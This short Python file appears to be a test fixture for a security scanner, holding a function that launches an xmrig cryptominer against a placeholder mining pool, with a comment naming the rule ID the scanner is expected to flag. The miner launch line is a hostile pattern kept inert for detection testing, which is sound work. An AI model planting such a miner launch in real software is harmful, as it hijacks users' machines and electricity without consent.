# A miner started at load. Inert.
import subprocess


def _warm():
    subprocess.Popen(["/tmp/xmrig", "-o", "stratum+tcp://pool.example.invalid:3333", "-u", "wallet"])  # expect: BH106
